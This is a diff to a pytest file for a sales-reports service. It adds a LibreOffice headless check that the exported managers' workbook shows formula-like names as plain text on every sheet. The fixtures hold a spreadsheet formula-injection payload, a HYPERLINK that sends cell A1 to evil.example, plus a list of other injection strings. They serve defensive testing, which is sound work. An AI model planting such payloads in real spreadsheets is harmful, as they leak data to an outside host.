@@ -4,6 +4,8 @@ export and of the managers' workbook as the same text, never as a live formula, 
 from __future__ import annotations
 
 import csv
+import shutil
+import subprocess
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -20,6 +22,7 @@ from services.reports import build, write_xlsx
 from services.safecells import defuse_csv, restore_csv
 from services.users import add_user
 from tests.botkit import button_update, make_app, person, text_update
+from tests.conftest import IN_CI
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看合同")'
 NASTY = [EVIL, "+86 138 0013 8000", "-2+3", "@SUM(1+1)", "\t=1+1", "'=already quoted", "''two", "'plain quote",
@@ -90,6 +93,22 @@ async def test_the_managers_workbook_shows_a_formula_name_as_text(session, tmp_p
              if isinstance(cell.value, str) and cell.value in (EVIL, rep.name)]
     assert len({title for title, _ in found}) >= 3  # the name appears on several sheets …
     assert {kind for _, kind in found} == {"s"}  # … and never as a formula
+    # A spreadsheet program we did not write opens it the same way: LibreOffice, every sheet to CSV as shown.
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        if IN_CI:
+            pytest.fail("LibreOffice is required under CI=true (.ci/run installs libreoffice-calc-nogui)")
+        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
+    out = tmp_path / "csv"
+    done = subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
+                           "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1',
+                           "--outdir", str(out), str(path)], capture_output=True, text=True, timeout=180)
+    assert done.returncode == 0, done.stderr
+    sheets = {p.stem.removeprefix("r-"): list(csv.reader(p.open(encoding="utf-8"))) for p in out.glob("*.csv")}
+    assert {"RFM", "Key accounts", "Monthly sales", "Visit first"} <= set(sheets)
+    accounts = sheets["Key accounts"]
+    assert accounts[1][2] == EVIL and accounts[1][3] == "900.00" and accounts[1][4] == "100.0%"  # text; formats
+    assert sheets["RFM"][1][1] == EVIL and sheets["RFM"][1][2] == rep.name
 
 
 async def test_a_name_typed_in_chat_as_a_formula_is_exported_as_text(engine, tmp_path):
